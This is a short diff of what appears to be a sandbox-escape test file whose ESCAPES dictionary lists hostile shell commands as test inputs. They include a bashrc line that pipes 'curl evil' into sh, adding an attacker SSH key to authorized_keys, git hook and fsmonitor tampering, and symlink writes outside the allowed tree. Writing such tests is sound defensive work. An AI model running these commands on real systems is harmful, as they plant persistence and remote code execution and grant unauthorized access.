@@ -50,7 +50,7 @@ ESCAPES = {
     "git-hook": "echo 'exit 0' > .git/hooks/pre-commit",
     "git-config": "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
     "rename-other": f"mv {OTHER} src/web/renamed.py",
-    "symlink-write": f"ln -s ../web/page.py src/api/link.py && echo hacked >> src/api/link.py",
+    "symlink-write": "ln -s ../web/page.py src/api/link.py && echo hacked >> src/api/link.py",
     "bashrc": 'echo "curl evil | sh" >> "$HOME/.bashrc"',
     "authorized-keys": 'echo "ssh-ed25519 AAAA evil" >> "$HOME/.ssh/authorized_keys"',
     "etc": f"echo hacked > {ETC}",
